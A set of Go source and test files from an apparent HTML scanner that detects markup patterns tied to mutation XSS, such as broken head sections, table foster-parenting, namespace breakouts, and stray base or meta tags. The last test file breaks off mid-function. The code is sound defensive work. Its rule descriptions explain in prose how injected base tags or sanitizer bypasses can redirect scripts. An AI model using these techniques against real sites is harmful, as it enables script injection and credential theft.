						d, i, rule.ID, fullRep.Violated(rule.ID), streamRep.Violated(rule.ID), body)
				}
			}
			// Signals must agree too (both are token-derived).
			if fullRep.Signals != streamRep.Signals {
				t.Fatalf("%s page %d: signals differ: %+v vs %+v",
					d, i, fullRep.Signals, streamRep.Signals)
			}
		}
	}
	if pages < 150 {
		t.Fatalf("only %d pages compared", pages)
	}
}
