package core

import (
	"github.com/hvscan/hvscan/internal/htmlparse"
)

// HTML Formatting rules (paper §3.2.1 HF1/HF2, §3.2.2 HF3–HF5). These are
// the building blocks of mutation XSS: every corrective re-arrangement the
// parser performs is a mutation a sanitizer cannot anticipate.

// ruleHF1 detects a broken head section: a non-head element that forced an
// implicit </head> (moving itself and all following head content into the
// body), or head metadata that turned up after the head was closed. The
// paper's examples: h1 around title, hidden div modals and inline SVGs
// placed in head (§4.4).
var ruleHF1 = Rule{
	ID: "HF1", Name: "Broken head section",
	Doc:   "A non-head element inside <head> closes the section implicitly and relocates the rest — including CSP meta tags — into the body where they are inert (paper §3.2.1).",
	Group: HTMLFormatting, Category: DefinitionViolation,
	TreeRequired: true,
	Check: func(p *Page) []Finding {
		var out []Finding
		out = append(out, eventFindings(p, "HF1", htmlparse.EventHeadBroken, nil)...)
		out = append(out, eventFindings(p, "HF1", htmlparse.EventMetadataAfterHead, nil)...)
		return out
	},
}

// ruleHF2 detects content before the body element: the parser opens the
// body implicitly, so a dangling tag injected between head and body can
// absorb the real <body> tag together with its event handlers (paper
// Figure 4).
var ruleHF2 = Rule{
	ID: "HF2", Name: "Content before body",
	Doc:   "Content before <body> forces an implicit body; a dangling tag there can absorb the real body tag together with its onload security handlers (paper Figure 4).",
	Group: HTMLFormatting, Category: DefinitionViolation,
	TreeRequired: true,
	Check: func(p *Page) []Finding {
		return eventFindings(p, "HF2", htmlparse.EventImpliedBody, nil)
	},
}

// ruleHF3 detects a second body start tag. The parser merges its
// attributes into the existing body — first writer wins per attribute, so
// injections on either side of the real body tag manipulate it.
var ruleHF3 = Rule{
	ID: "HF3", Name: "Multiple body elements",
	Doc:   "A second <body> tag merges its attributes into the first (first writer wins per name), letting injections on either side of the real tag manipulate it (paper §3.2.2).",
	Group: HTMLFormatting, Category: ParsingError,
	TreeRequired: true,
	Check: func(p *Page) []Finding {
		return eventFindings(p, "HF3", htmlparse.EventSecondBody, nil)
	},
}

// ruleHF4 detects elements (or text) that are illegal inside a table and
// were foster-parented in front of it — the reordering trick of the
// Figure 1 sanitizer bypass and the paper's most common formatting
// violation (tables used for layout, §4.4 Figure 11).
var ruleHF4 = Rule{
	ID: "HF4", Name: "Broken table element",
	Doc:   "Content illegal inside <table> is foster-parented in front of it; sanitizers that do not anticipate the reordering are bypassable — the Figure 1 mXSS building block (paper §3.2.2).",
	Group: HTMLFormatting, Category: ParsingError,
	TreeRequired: true,
	Check: func(p *Page) []Finding {
		return eventFindings(p, "HF4", htmlparse.EventFosterParented, nil)
	},
}

// ruleHF5_1 detects SVG/MathML-only elements appearing in the HTML
// namespace — detached fragments of foreign markup, typically broken
// inline SVG (the most common namespace confusion in the paper's data).
var ruleHF5_1 = Rule{
	ID: "HF5_1", Name: "Wrong namespace: foreign element in HTML",
	Doc:   "SVG/MathML-only elements in the HTML namespace: detached foreign markup, typically broken inline SVG, parsed as unknown HTML elements (paper §3.2.2).",
	Group: HTMLFormatting, Category: ParsingError,
	TreeRequired: true,
	Check: func(p *Page) []Finding {
		return eventFindings(p, "HF5_1", htmlparse.EventForeignElementInHTML, nil)
	},
}

// ruleHF5_2 detects HTML breakout elements inside SVG content: the parser
// abandons the SVG subtree and re-parses the tag as HTML.
var ruleHF5_2 = Rule{
	ID: "HF5_2", Name: "Wrong namespace: breakout from SVG",
	Doc:   "An HTML element inside <svg> forces the parser out of the foreign namespace; content written for one namespace re-parses under another's rules (paper §3.2.2).",
	Group: HTMLFormatting, Category: ParsingError,
	TreeRequired: true,
	Check: func(p *Page) []Finding {
		return eventFindings(p, "HF5_2", htmlparse.EventForeignBreakout,
			func(e htmlparse.TreeEvent) bool { return e.Namespace == htmlparse.NamespaceSVG })
	},
}

// ruleHF5_3 detects breakouts from MathML content — the namespace switch
// at the heart of the DOMPurify bypass (paper Figure 1); vanishingly rare
// in the wild (3 domains in the paper's eight-year dataset).
var ruleHF5_3 = Rule{
	ID: "HF5_3", Name: "Wrong namespace: breakout from MathML",
	Doc:   "The MathML namespace breakout behind the DOMPurify < 2.1 bypass: content crosses from MathML parsing rules to HTML ones between two parses (paper Figure 1).",
	Group: HTMLFormatting, Category: ParsingError,
	TreeRequired: true,
	Check: func(p *Page) []Finding {
		return eventFindings(p, "HF5_3", htmlparse.EventForeignBreakout,
			func(e htmlparse.TreeEvent) bool { return e.Namespace == htmlparse.NamespaceMathML })
	},
}
