package core

import (
	"fmt"
	"sync"
	"testing"

	"github.com/hvscan/hvscan/internal/obs"
)

// TestCheckerInstrumented verifies the per-rule counters mirror the
// reports exactly, including under concurrent checking (the pipeline runs
// one checker across all workers).
func TestCheckerInstrumented(t *testing.T) {
	reg := obs.NewRegistry()
	c := NewChecker().Instrument(reg)

	docs := [][]byte{}
	want := make(map[string]uint64)
	for _, rc := range ruleCases() {
		docs = append(docs, rc.bad)
	}
	for _, d := range docs {
		rep, err := c.Check(d)
		if err != nil {
			t.Fatal(err)
		}
		for id, n := range rep.RuleHits {
			want[id] += uint64(n)
		}
	}
	if len(want) == 0 {
		t.Fatal("no rule fired — instrumentation test is vacuous")
	}
	if got := reg.Counter("core_pages_checked_total").Value(); got != uint64(len(docs)) {
		t.Errorf("pages checked = %d, want %d", got, len(docs))
	}
	for id, n := range want {
		name := fmt.Sprintf("core_rule_hits_total{rule=%q}", id)
		if got := reg.Counter(name).Value(); got != n {
			t.Errorf("%s = %d, want %d", name, got, n)
		}
	}

	// Re-checking the same corpus concurrently must double every counter
	// without racing (run with -race).
	var wg sync.WaitGroup
	for _, d := range docs {
		wg.Add(1)
		go func(d []byte) {
			defer wg.Done()
			if _, err := c.Check(d); err != nil {
				t.Error(err)
			}
		}(d)
	}
	wg.Wait()
	if got := reg.Counter("core_pages_checked_total").Value(); got != uint64(2*len(docs)) {
		t.Errorf("pages checked after concurrent pass = %d, want %d", got, 2*len(docs))
	}
	for id, n := range want {
		name := fmt.Sprintf("core_rule_hits_total{rule=%q}", id)
		if got := reg.Counter(name).Value(); got != 2*n {
			t.Errorf("%s after concurrent pass = %d, want %d", name, got, 2*n)
		}
	}
}

// TestUninstrumentedCheckerHasNoCounters pins the nil-check fast path: a
// plain NewChecker must work without any registry.
func TestUninstrumentedCheckerHasNoCounters(t *testing.T) {
	c := NewChecker()
	rep, err := c.Check(wrap(`<p id=x id=y>dup</p>`))
	if err != nil {
		t.Fatal(err)
	}
	if rep == nil {
		t.Fatal("nil report")
	}
}
