package core

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// streamAllocDoc builds a well-formed lowercase document of roughly `paras`
// paragraphs with one constant violation up front (an FB1 solidus), so the
// finding path is exercised while the body scales cleanly. Lowercase ASCII
// keeps the tokenizer on its zero-copy spans — the regime in which
// CheckStream's allocation count must not depend on input size.
func streamAllocDoc(paras int) []byte {
	var b strings.Builder
	b.WriteString("<!doctype html><html><head><title>t</title></head><body><img//src=x>")
	for i := 0; i < paras; i++ {
		b.WriteString(`<p class="c"><a href="/a" target="_blank">link</a> plain body text</p>`)
	}
	b.WriteString("</body></html>")
	return []byte(b.String())
}

// TestCheckStreamAllocsFlat is the O(1)-memory acceptance check: the
// number of allocations per CheckStream call must be flat across a 10×
// input-size sweep. Any per-token or per-tag allocation (token slices,
// fresh attribute arrays, copied names) would scale with the paragraph
// count and fail here.
func TestCheckStreamAllocsFlat(t *testing.T) {
	c := NewStreamingChecker()
	allocs := func(doc []byte) float64 {
		// One warm-up run primes the TokenStream pool and scratch sizes.
		if _, err := c.CheckStream(doc); err != nil {
			t.Fatal(err)
		}
		return testing.AllocsPerRun(50, func() {
			if _, err := c.CheckStream(doc); err != nil {
				t.Fatal(err)
			}
		})
	}
	base := allocs(streamAllocDoc(50))
	big := allocs(streamAllocDoc(500))
	if big > base+4 {
		t.Errorf("CheckStream allocations scale with input: %.1f allocs at 1x, %.1f at 10x", base, big)
	}
}

// TestStreamingRulesHaveStreamHooks pins the catalogue invariant the
// two-phase checker depends on: every TreeRequired=false rule must carry a
// Stream constructor (otherwise Check would silently fall back to tree
// mode), and tree rules must not pretend to stream.
func TestStreamingRulesHaveStreamHooks(t *testing.T) {
	for _, r := range Rules() {
		if !r.TreeRequired && r.Stream == nil {
			t.Errorf("rule %s: TreeRequired=false but no Stream hook", r.ID)
		}
		if r.TreeRequired && r.Stream != nil {
			t.Errorf("rule %s: TreeRequired=true yet has a Stream hook", r.ID)
		}
	}
	if NewStreamingChecker().needTree {
		t.Error("streaming checker thinks it needs a tree")
	}
	if !NewChecker().needTree {
		t.Error("full checker thinks it can skip the tree")
	}
}

// benchFixture loads one of the shared parser benchmark pages.
func benchFixture(b *testing.B, name string) []byte {
	b.Helper()
	data, err := os.ReadFile(filepath.Join("..", "htmlparse", "testdata", "bench", name+".html"))
	if err != nil {
		b.Fatal(err)
	}
	return data
}

// BenchmarkCheckStream measures the constant-memory streaming check over
// the shared parser benchmark fixtures — the per-page cost of the
// crawler's -stream mode.
func BenchmarkCheckStream(b *testing.B) {
	c := NewStreamingChecker()
	for _, name := range []string{"small", "typical", "pathological"} {
		data := benchFixture(b, name)
		b.Run(name, func(b *testing.B) {
			b.SetBytes(int64(len(data)))
			b.ReportAllocs()
			for i := 0; i < b.N; i++ {
				if _, err := c.CheckStream(data); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}

// BenchmarkCheckFull is the tree-mode counterpart, for the ablation
// comparison in EXPERIMENTS.md.
func BenchmarkCheckFull(b *testing.B) {
	c := NewChecker()
	for _, name := range []string{"small", "typical", "pathological"} {
		data := benchFixture(b, name)
		b.Run(name, func(b *testing.B) {
			b.SetBytes(int64(len(data)))
			b.ReportAllocs()
			for i := 0; i < b.N; i++ {
				if _, err := c.Check(data); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}
