package core

import (
	"github.com/hvscan/hvscan/internal/htmlparse"
)

// Data Manipulation rules (paper §3.2.1 DM1/DM2, §3.2.2 DM3).

// hasAttr reports whether the attribute list carries a non-duplicate
// attribute of the given name.
func hasAttr(attrs []htmlparse.Attribute, name string) bool {
	for _, a := range attrs {
		if a.Name == name && !a.Duplicate {
			return true
		}
	}
	return false
}

// ruleDM1 detects meta elements with an http-equiv attribute parsed
// outside the head section. http-equiv can set cookies, redirect the user
// or declare a CSP; the spec allows it only in head, yet the parsing
// process applies head rules anywhere (paper §3.2.1, Figure 15).
var ruleDM1 = Rule{
	ID: "DM1", Name: "Meta tag with http-equiv outside head",
	Doc:   "meta http-equiv can set cookies, redirect, or declare a CSP, and is only defined for <head> — yet the parser honors it anywhere in the body (paper §3.2.1, Figure 15).",
	Group: DataManipulation, Category: DefinitionViolation,
	AutoFixable: true, TreeRequired: true,
	Check: func(p *Page) []Finding {
		var out []Finding
		match := func(e htmlparse.TreeEvent) bool {
			return e.Detail == "meta" && hasAttr(e.Attr, "http-equiv")
		}
		out = append(out, eventFindings(p, "DM1", htmlparse.EventMetaInBody, match)...)
		out = append(out, eventFindings(p, "DM1", htmlparse.EventMetadataAfterHead, match)...)
		return out
	},
}

// ruleDM2_1 detects base elements outside the head section (only defined
// for head, accepted anywhere — the Froxlor credential theft primitive,
// CVE-2020-29653).
var ruleDM2_1 = Rule{
	ID: "DM2_1", Name: "Base tag outside head",
	Doc:   "A <base> element outside <head> rewrites every later relative URL — injected, it points the page's scripts at the attacker's server (Froxlor credential theft, CVE-2020-29653).",
	Group: DataManipulation, Category: DefinitionViolation,
	AutoFixable: true, TreeRequired: true,
	Check: func(p *Page) []Finding {
		var out []Finding
		out = append(out, eventFindings(p, "DM2_1", htmlparse.EventBaseInBody, nil)...)
		out = append(out, eventFindings(p, "DM2_1", htmlparse.EventMetadataAfterHead,
			func(e htmlparse.TreeEvent) bool { return e.Detail == "base" })...)
		return out
	},
}

// ruleDM2_2 detects documents with more than one base element; the spec
// allows exactly one per document.
var ruleDM2_2 = Rule{
	ID: "DM2_2", Name: "Multiple base tags",
	Doc:   "Only one <base> per document is allowed; the parser keeps the first and ignores the rest, so an early injected base wins over the site's own (paper §3.2.1).",
	Group: DataManipulation, Category: DefinitionViolation,
	AutoFixable: true, TreeRequired: true,
	Check: func(p *Page) []Finding {
		bases := p.Doc.FindAll(func(n *htmlparse.Node) bool { return n.IsElement("base") })
		if len(bases) < 2 {
			return nil
		}
		var out []Finding
		for _, b := range bases[1:] {
			out = append(out, Finding{RuleID: "DM2_2", Pos: b.Pos, Evidence: "base"})
		}
		return out
	},
}

// ruleDM2_3 detects a base element that appears after an earlier element
// already consumed a URL: every relative URL before the base resolves
// differently from those after it, which the spec forbids.
var ruleDM2_3 = Rule{
	ID: "DM2_3", Name: "Base tag after URL-consuming element",
	Doc:   "A <base> appearing after elements that already consumed URLs splits the document into two inconsistent URL-resolution regimes (paper §3.2.1).",
	Group: DataManipulation, Category: DefinitionViolation,
	AutoFixable: true, TreeRequired: true,
	Check: func(p *Page) []Finding {
		var out []Finding
		urlSeen := false
		p.Doc.Walk(func(n *htmlparse.Node) bool {
			if n.Type != htmlparse.ElementNode {
				return true
			}
			if n.IsElement("base") {
				if urlSeen {
					out = append(out, Finding{RuleID: "DM2_3", Pos: n.Pos, Evidence: "base"})
				}
				return true
			}
			for _, a := range n.Attr {
				if urlAttributes[a.Name] && a.Value != "" {
					urlSeen = true
					break
				}
			}
			return true
		})
		return out
	},
}

// ruleDM3 detects duplicated attribute names within one tag: the parser
// keeps the first and drops the rest, so an injection placed before benign
// attributes silently overrides event handlers, ids or classes (paper
// §3.2.2, Figure 14).
var ruleDM3 = Rule{
	ID: "DM3", Name: "Multiple same attributes",
	Doc:   "Duplicate attribute names: the parser keeps the first occurrence, so an injection placed before benign attributes overrides event handlers, ids, and classes (paper §3.2.2, Figure 14).",
	Group: DataManipulation, Category: ParsingError,
	AutoFixable: true,
	Check: func(p *Page) []Finding {
		return errorFindings(p, "DM3", htmlparse.ErrDuplicateAttribute)
	},
	Stream: errorStream("DM3", htmlparse.ErrDuplicateAttribute),
}
