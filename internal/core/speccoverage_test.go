package core

import (
	"go/ast"
	"go/parser"
	"go/token"
	"regexp"
	"testing"

	"github.com/hvscan/hvscan/internal/htmlparse"
)

// This file is the measurement layer's ledger of every parse error the
// parser can emit — the coverage contract behind the paper's Table 1.
// Each htmlparse.ErrorCode constant appears in exactly one of two
// tables below:
//
//   - specCoverage: codes the parser emits today, each with a minimal
//     provoking document and, where Table 1 has a dedicated rule for
//     the code, that rule's ID;
//   - unemittedCodes: codes declared for future wiring that no parser
//     path currently produces.
//
// TestSpecCoverageLedgerIsExhaustive parses htmlparse/errors.go and
// fails if a constant is missing from both tables, so adding an
// ErrorCode forces a decision here. The hvlint specerrors analyzer
// enforces the same invariant at lint time (every constant must be
// referenced from this package); this test is its runtime twin and
// additionally proves each emitted code is actually reachable.

// coverageRow ties one ErrorCode to its accounting.
type coverageRow struct {
	code htmlparse.ErrorCode
	// rule is the dedicated Table 1 rule consuming this code, or ""
	// when the code is only counted in the aggregate parsing-error
	// category.
	rule string
	// doc is a minimal document that provokes the code.
	doc string
}

func specCoverage() []coverageRow {
	return []coverageRow{
		// Tokenizer-stage errors.
		{code: htmlparse.ErrAbruptClosingOfEmptyComment, doc: `<!DOCTYPE html><body><!--></body>`},
		{code: htmlparse.ErrAbruptDoctypePublicIdentifier, doc: `<!DOCTYPE html PUBLIC "a>`},
		{code: htmlparse.ErrAbruptDoctypeSystemIdentifier, doc: `<!DOCTYPE html SYSTEM "a>`},
		{code: htmlparse.ErrAbsenceOfDigitsInNumericCharRef, doc: `<!DOCTYPE html><body>&#;</body>`},
		{code: htmlparse.ErrCDATAInHTMLContent, doc: `<!DOCTYPE html><body><![CDATA[x]]></body>`},
		{code: htmlparse.ErrCharRefOutsideUnicodeRange, doc: `<!DOCTYPE html><body>&#x110000;</body>`},
		{code: htmlparse.ErrControlCharacterInInputStream, doc: "<!DOCTYPE html><body>a\x01b</body>"},
		{code: htmlparse.ErrControlCharacterReference, doc: `<!DOCTYPE html><body>&#x2;</body>`},
		{code: htmlparse.ErrDuplicateAttribute, rule: "DM3", doc: `<!DOCTYPE html><body><p id="a" id="a">x</p></body>`},
		{code: htmlparse.ErrEndTagWithAttributes, doc: `<!DOCTYPE html><body><div>x</div id="a"></body>`},
		{code: htmlparse.ErrEndTagWithTrailingSolidus, doc: `<!DOCTYPE html><body><div>x</div/></body>`},
		{code: htmlparse.ErrEOFBeforeTagName, doc: `<!DOCTYPE html><body>x<`},
		{code: htmlparse.ErrEOFInCDATA, doc: `<!DOCTYPE html><body><svg><![CDATA[x`},
		{code: htmlparse.ErrEOFInComment, doc: `<!DOCTYPE html><body><!--x`},
		{code: htmlparse.ErrEOFInDoctype, doc: `<!DOCTYPE`},
		{code: htmlparse.ErrEOFInScriptHTMLCommentLikeText, doc: `<!DOCTYPE html><script><!--`},
		{code: htmlparse.ErrEOFInTag, doc: `<!DOCTYPE html><body><div `},
		{code: htmlparse.ErrIncorrectlyClosedComment, doc: `<!DOCTYPE html><body><!--x--!></body>`},
		{code: htmlparse.ErrIncorrectlyOpenedComment, doc: `<!DOCTYPE html><body><!x></body>`},
		{code: htmlparse.ErrInvalidCharacterSequenceAfterDT, doc: `<!DOCTYPE html BOGUS>`},
		{code: htmlparse.ErrInvalidFirstCharacterOfTagName, doc: `<!DOCTYPE html><body><3></body>`},
		{code: htmlparse.ErrMissingAttributeValue, doc: `<!DOCTYPE html><body><div a=>x</div></body>`},
		{code: htmlparse.ErrMissingDoctypeName, doc: `<!DOCTYPE>`},
		{code: htmlparse.ErrMissingDoctypePublicIdentifier, doc: `<!DOCTYPE html PUBLIC>`},
		{code: htmlparse.ErrMissingDoctypeSystemIdentifier, doc: `<!DOCTYPE html SYSTEM>`},
		{code: htmlparse.ErrMissingEndTagName, doc: `<!DOCTYPE html><body>x</></body>`},
		{code: htmlparse.ErrMissingQuoteBeforeDoctypePublicID, doc: `<!DOCTYPE html PUBLIC a>`},
		{code: htmlparse.ErrMissingQuoteBeforeDoctypeSystemID, doc: `<!DOCTYPE html SYSTEM a>`},
		{code: htmlparse.ErrMissingSemicolonAfterCharRef, doc: `<!DOCTYPE html><body>&#65 x</body>`},
		{code: htmlparse.ErrMissingWhitespaceAfterDoctypeKW, doc: `<!DOCTYPE html PUBLIC"a" "b">`},
		{code: htmlparse.ErrMissingWhitespaceBeforeDoctypeName, doc: `<!DOCTYPEhtml>`},
		{code: htmlparse.ErrMissingWhitespaceBetweenAttributes, rule: "FB2", doc: `<!DOCTYPE html><body><img src="a"b="c"></body>`},
		{code: htmlparse.ErrMissingWhitespaceBetweenDTIDs, doc: `<!DOCTYPE html PUBLIC "a""b">`},
		{code: htmlparse.ErrNestedComment, doc: `<!DOCTYPE html><body><!--a<!--b--></body>`},
		{code: htmlparse.ErrNoncharacterCharacterReference, doc: `<!DOCTYPE html><body>&#xFDD0;</body>`},
		{code: htmlparse.ErrNoncharacterInInputStream, doc: "<!DOCTYPE html><body>a﷐b</body>"},
		{code: htmlparse.ErrNullCharacterReference, doc: `<!DOCTYPE html><body>&#0;</body>`},
		{code: htmlparse.ErrSurrogateCharacterReference, doc: `<!DOCTYPE html><body>&#xD800;</body>`},
		{code: htmlparse.ErrUnexpectedCharacterAfterDTSystemID, doc: `<!DOCTYPE html SYSTEM "a" b>`},
		{code: htmlparse.ErrUnexpectedCharacterInAttributeName, doc: `<!DOCTYPE html><body><div a"b=c>x</div></body>`},
		{code: htmlparse.ErrUnexpectedCharInUnquotedAttrValue, doc: `<!DOCTYPE html><body><div a=b"c>x</div></body>`},
		{code: htmlparse.ErrUnexpectedEqualsSignBeforeAttrName, doc: `<!DOCTYPE html><body><div =x>y</div></body>`},
		{code: htmlparse.ErrUnexpectedNullCharacter, doc: "<!DOCTYPE html><body><script>a\x00b</script></body>"},
		{code: htmlparse.ErrUnexpectedQuestionMarkInsteadOfTag, doc: `<!DOCTYPE html><body><?xml?></body>`},
		{code: htmlparse.ErrUnexpectedSolidusInTag, rule: "FB1", doc: `<!DOCTYPE html><body><img/src=x></body>`},
		{code: htmlparse.ErrUnknownNamedCharacterReference, doc: `<!DOCTYPE html><body>&unknown;</body>`},

		// Tree-construction-stage errors.
		{code: htmlparse.ErrUnexpectedTokenInInitialMode, doc: `<p>x</p>`},
		{code: htmlparse.ErrUnexpectedDoctype, doc: `<!DOCTYPE html><body><!DOCTYPE html>x</body>`},
		{code: htmlparse.ErrUnexpectedStartTag, doc: `<!DOCTYPE html><body><td>x</body>`},
		{code: htmlparse.ErrUnexpectedEndTag, doc: `<!DOCTYPE html><body></p></body>`},
		{code: htmlparse.ErrUnexpectedTextInTable, doc: `<!DOCTYPE html><body><table>x</table></body>`},
		{code: htmlparse.ErrUnexpectedEOFInElement, doc: `<!DOCTYPE html><body><div>x`},
		{code: htmlparse.ErrNestedFormElement, doc: `<!DOCTYPE html><body><form><form>x</form></form></body>`},
		{code: htmlparse.ErrSecondBodyStartTag, doc: `<!DOCTYPE html><body><body>x</body>`},
		{code: htmlparse.ErrFosterParenting, doc: `<!DOCTYPE html><body><table><div>x</div></table></body>`},
		{code: htmlparse.ErrForeignContentBreakout, doc: `<!DOCTYPE html><body><svg><p>x</p></svg></body>`},
		{code: htmlparse.ErrUnexpectedElementInHead, doc: `<!DOCTYPE html><head></head><meta name="a"><body>x</body>`},
		{code: htmlparse.ErrHTMLIntegrationMisnesting, doc: `<!DOCTYPE html><body><circle>x</circle></body>`},
		{code: htmlparse.ErrAdoptionAgencyMisnesting, doc: `<!DOCTYPE html><body><a>x<a>y</a></body>`},
	}
}

// unemittedCodes are declared in htmlparse/errors.go but not yet
// produced by any parser path. They stay in the ledger so the
// exhaustiveness check (and the specerrors analyzer) pass; when the
// parser learns to emit one, TestSpecCoverageUnemitted fails and the
// code must graduate into specCoverage with its provoking document.
func unemittedCodes() map[htmlparse.ErrorCode]string {
	return map[htmlparse.ErrorCode]string{
		// Self-closing syntax on a non-void element is currently folded
		// into the generic repair path without its own error.
		htmlparse.ErrNonVoidElementWithTrailingSolidus: "not yet wired into the tree builder",
		// UTF-8 validation rejects surrogate encodings outright as
		// ErrNotUTF8 before the tokenizer could flag them.
		htmlparse.ErrSurrogateInInputStream: "unreachable behind the ErrNotUTF8 preprocess gate",
	}
}

// TestSpecCoverageProvokesEveryCode proves every emitted code is
// reachable: each row's document must produce its code when parsed.
func TestSpecCoverageProvokesEveryCode(t *testing.T) {
	for _, row := range specCoverage() {
		row := row
		t.Run(string(row.code), func(t *testing.T) {
			res, err := htmlparse.Parse([]byte(row.doc))
			if err != nil {
				t.Fatalf("Parse(%q): %v", row.doc, err)
			}
			if !res.HasError(row.code) {
				t.Fatalf("document %q did not provoke %s; got %v", row.doc, row.code, res.Errors)
			}
		})
	}
}

// TestSpecCoverageRuleMapping checks the dedicated-rule column: the
// rule exists, is a parsing-error rule, and actually fires on the
// row's document.
func TestSpecCoverageRuleMapping(t *testing.T) {
	for _, row := range specCoverage() {
		if row.rule == "" {
			continue
		}
		r, ok := RuleByID(row.rule)
		if !ok {
			t.Fatalf("%s maps to unknown rule %q", row.code, row.rule)
		}
		if r.Category != ParsingError {
			t.Errorf("%s maps to rule %s with category %q, want %q", row.code, row.rule, r.Category, ParsingError)
		}
		rep := mustCheck(t, []byte(row.doc))
		if !rep.Violated(row.rule) {
			t.Errorf("rule %s did not fire on %q (violations: %v)", row.rule, row.doc, rep.ViolatedIDs())
		}
	}
}

// TestSpecCoverageUnemitted keeps the unemitted list honest: none of
// its codes may appear in specCoverage, and the lists together must
// not double-book a code.
func TestSpecCoverageUnemitted(t *testing.T) {
	emitted := make(map[htmlparse.ErrorCode]bool)
	for _, row := range specCoverage() {
		if emitted[row.code] {
			t.Errorf("code %s listed twice in specCoverage", row.code)
		}
		emitted[row.code] = true
	}
	for code := range unemittedCodes() {
		if emitted[code] {
			t.Errorf("code %s is in both specCoverage and unemittedCodes", code)
		}
	}
}

// TestSpecCoverageNamesAreWellFormed pins the WHATWG naming contract:
// every code is unique kebab-case, since report output and the
// violation tables key on these strings.
func TestSpecCoverageNamesAreWellFormed(t *testing.T) {
	kebab := regexp.MustCompile(`^[a-z0-9]+(-[a-z0-9]+)*$`)
	seen := make(map[htmlparse.ErrorCode]bool)
	check := func(code htmlparse.ErrorCode) {
		if !kebab.MatchString(string(code)) {
			t.Errorf("code %q is not kebab-case", code)
		}
		if seen[code] {
			t.Errorf("code value %q declared twice", code)
		}
		seen[code] = true
	}
	for _, row := range specCoverage() {
		check(row.code)
	}
	for code := range unemittedCodes() {
		check(code)
	}
}

// TestSpecCoverageLedgerIsExhaustive parses htmlparse/errors.go and
// fails if any ErrorCode constant is missing from the ledger — the
// runtime twin of the hvlint specerrors analyzer.
func TestSpecCoverageLedgerIsExhaustive(t *testing.T) {
	fset := token.NewFileSet()
	f, err := parser.ParseFile(fset, "../htmlparse/errors.go", nil, parser.SkipObjectResolution)
	if err != nil {
		t.Fatalf("parse errors.go: %v", err)
	}
	covered := make(map[string]bool)
	for _, row := range specCoverage() {
		covered[string(row.code)] = true
	}
	for code := range unemittedCodes() {
		covered[string(code)] = true
	}
	declared := 0
	for _, decl := range f.Decls {
		gd, ok := decl.(*ast.GenDecl)
		if !ok || gd.Tok != token.CONST {
			continue
		}
		for _, spec := range gd.Specs {
			vs, ok := spec.(*ast.ValueSpec)
			if !ok || len(vs.Values) != len(vs.Names) {
				continue
			}
			if id, ok := vs.Type.(*ast.Ident); !ok || id.Name != "ErrorCode" {
				continue
			}
			for i, name := range vs.Names {
				lit, ok := vs.Values[i].(*ast.BasicLit)
				if !ok || lit.Kind != token.STRING {
					t.Fatalf("constant %s is not a string literal", name.Name)
				}
				value := lit.Value[1 : len(lit.Value)-1] // strip quotes
				declared++
				if !covered[value] {
					t.Errorf("htmlparse.%s (%q) is missing from the spec coverage ledger; add it to specCoverage (with a provoking document) or unemittedCodes", name.Name, value)
				}
			}
		}
	}
	if want := len(specCoverage()) + len(unemittedCodes()); declared != want {
		t.Errorf("errors.go declares %d ErrorCode constants, ledger has %d rows", declared, want)
	}
}
