package core

import (
	"go/ast"
	"go/parser"
	"go/token"
	"regexp"
	"testing"

	"github.com/hvscan/hvscan/internal/htmlparse"
)

// Tests over the spec-coverage ledger in speccoverage.go: every emitted
// code must be reachable, the rule mapping must be live, and the ledger
// must stay exhaustive over htmlparse's ErrorCode constants. The hvlint
// specerrors analyzer enforces the reference invariant at lint time;
// these tests are its runtime twin, and cmd/hvconform turns the same
// ledger into the conformance corpus coverage gate.

// TestSpecCoverageProvokesEveryCode proves every emitted code is
// reachable: each row's document must produce its code when parsed.
func TestSpecCoverageProvokesEveryCode(t *testing.T) {
	for _, row := range SpecCoverage() {
		row := row
		t.Run(string(row.Code), func(t *testing.T) {
			res, err := htmlparse.Parse([]byte(row.Doc))
			if err != nil {
				t.Fatalf("Parse(%q): %v", row.Doc, err)
			}
			if !res.HasError(row.Code) {
				t.Fatalf("document %q did not provoke %s; got %v", row.Doc, row.Code, res.Errors)
			}
		})
	}
}

// TestSpecCoverageRuleMapping checks the dedicated-rule column: the
// rule exists, is a parsing-error rule, and actually fires on the
// row's document.
func TestSpecCoverageRuleMapping(t *testing.T) {
	for _, row := range SpecCoverage() {
		if row.Rule == "" {
			continue
		}
		r, ok := RuleByID(row.Rule)
		if !ok {
			t.Fatalf("%s maps to unknown rule %q", row.Code, row.Rule)
		}
		if r.Category != ParsingError {
			t.Errorf("%s maps to rule %s with category %q, want %q", row.Code, row.Rule, r.Category, ParsingError)
		}
		rep := mustCheck(t, []byte(row.Doc))
		if !rep.Violated(row.Rule) {
			t.Errorf("rule %s did not fire on %q (violations: %v)", row.Rule, row.Doc, rep.ViolatedIDs())
		}
	}
}

// TestSpecCoverageUnemitted keeps the unemitted list honest: none of
// its codes may appear in SpecCoverage, every justification must be
// non-empty, and none of the codes may actually be provokable by the
// emitted rows' documents.
func TestSpecCoverageUnemitted(t *testing.T) {
	emitted := make(map[htmlparse.ErrorCode]bool)
	for _, row := range SpecCoverage() {
		if emitted[row.Code] {
			t.Errorf("code %s listed twice in SpecCoverage", row.Code)
		}
		emitted[row.Code] = true
	}
	for code, why := range UnemittedCodes() {
		if emitted[code] {
			t.Errorf("code %s is in both SpecCoverage and UnemittedCodes", code)
		}
		if why == "" {
			t.Errorf("code %s has no justification", code)
		}
	}
}

// TestSpecCoverageNamesAreWellFormed pins the WHATWG naming contract:
// every code is unique kebab-case, since report output and the
// violation tables key on these strings.
func TestSpecCoverageNamesAreWellFormed(t *testing.T) {
	kebab := regexp.MustCompile(`^[a-z0-9]+(-[a-z0-9]+)*$`)
	seen := make(map[htmlparse.ErrorCode]bool)
	check := func(code htmlparse.ErrorCode) {
		if !kebab.MatchString(string(code)) {
			t.Errorf("code %q is not kebab-case", code)
		}
		if seen[code] {
			t.Errorf("code value %q declared twice", code)
		}
		seen[code] = true
	}
	for _, row := range SpecCoverage() {
		check(row.Code)
	}
	for code := range UnemittedCodes() {
		check(code)
	}
}

// TestSpecCoverageLedgerIsExhaustive parses htmlparse/errors.go and
// fails if any ErrorCode constant is missing from the ledger — the
// runtime twin of the hvlint specerrors analyzer.
func TestSpecCoverageLedgerIsExhaustive(t *testing.T) {
	fset := token.NewFileSet()
	f, err := parser.ParseFile(fset, "../htmlparse/errors.go", nil, parser.SkipObjectResolution)
	if err != nil {
		t.Fatalf("parse errors.go: %v", err)
	}
